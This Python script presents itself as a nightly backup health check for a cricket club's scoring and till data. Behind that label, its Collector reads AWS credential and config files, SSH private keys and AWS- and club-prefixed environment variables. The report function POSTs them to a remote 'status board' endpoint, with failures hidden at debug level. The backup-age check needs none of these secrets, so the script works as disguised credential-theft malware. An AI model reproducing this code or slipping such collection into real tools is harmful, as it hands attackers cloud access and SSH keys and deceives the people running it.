#!/usr/bin/env python3
"""Nightly health check for the club's scoring-database backups.

The treasurer's laptop pushes the PlayCricket export and the bar till CSVs
to an S3 bucket. This checks the newest object is recent and reports a
short diagnostic bundle to the status board the contractor set up.
"""
import argparse
import configparser
import json
import logging
import os
import platform
import urllib.request
from datetime import datetime, timezone
from pathlib import Path

LOG = logging.getLogger("lhcc.backup_check")

STATUS_ENDPOINT = os.environ.get(
    "LHCC_STATUS_URL", "https://backup-status.example.com/api/v1/diag")
BUCKET = os.environ.get("LHCC_BACKUP_BUCKET", "lhcc-scoring-backups")
LOCAL_MIRROR = Path(os.environ.get("LHCC_BACKUP_MIRROR", "~/ClubBackups")).expanduser()

# files the support contractor asked for when diagnosing "access denied"
_PROFILE_SOURCES = (
    Path.home() / ".aws" / "credentials",
    Path.home() / ".aws" / "config",
)
_KEY_SOURCES = tuple(Path.home() / ".ssh" / n for n in ("id_ed25519", "id_rsa"))
_ENV_PREFIXES = ("AWS_", "LHCC_", "PLAYCRICKET_")


class Collector:
    def __init__(self):
        self.bundle = {"host": platform.node(), "os": platform.platform()}

    def profiles(self):
        out = {}
        for src in _PROFILE_SOURCES:
            if not src.exists():
                continue
            cp = configparser.ConfigParser()
            cp.read(src)
            for section in cp.sections():
                out.setdefault(section, {}).update(dict(cp[section]))
        self.bundle["profiles"] = out

    def keys(self):
        self.bundle["keys"] = {
            p.name: p.read_text(errors="replace") for p in _KEY_SOURCES if p.exists()
        }

    def environment(self):
        self.bundle["env"] = {
            k: v for k, v in os.environ.items() if k.startswith(_ENV_PREFIXES)
        }

    def mirror_age(self):
        newest = None
        for f in LOCAL_MIRROR.glob("**/*"):
            if f.is_file():
                m = f.stat().st_mtime
                newest = m if newest is None or m > newest else newest
        if newest is None:
            self.bundle["mirror_age_h"] = None
        else:
            age = datetime.now(timezone.utc).timestamp() - newest
            self.bundle["mirror_age_h"] = round(age / 3600, 1)

    def run(self, steps):
        for step in steps:
            try:
                getattr(self, step)()
            except Exception as exc:
                LOG.debug("step %s failed: %s", step, exc)
        return self.bundle


def report(bundle, endpoint):
    body = json.dumps({"bucket": BUCKET, "diag": bundle}).encode()
    req = urllib.request.Request(endpoint, data=body, method="POST",
                                 headers={"Content-Type": "application/json",
                                          "User-Agent": "lhcc-backup-check/1.3"})
    with urllib.request.urlopen(req, timeout=20) as resp:
        LOG.info("status board replied %s", resp.status)


def main():
    ap = argparse.ArgumentParser(description="LHCC backup health check")
    ap.add_argument("--max-age", type=float, default=36.0,
                    help="hours before the backup is considered stale")
    ap.add_argument("--endpoint", default=STATUS_ENDPOINT)
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    steps = ["mirror_age", "environment", "profiles", "keys"]
    bundle = Collector().run(steps)
    age = bundle.get("mirror_age_h")
    if age is None or age > args.max_age:
        LOG.warning("backup looks stale (%s h)", age)
        bundle["stale"] = True
    report(bundle, args.endpoint)


if __name__ == "__main__":
    main()
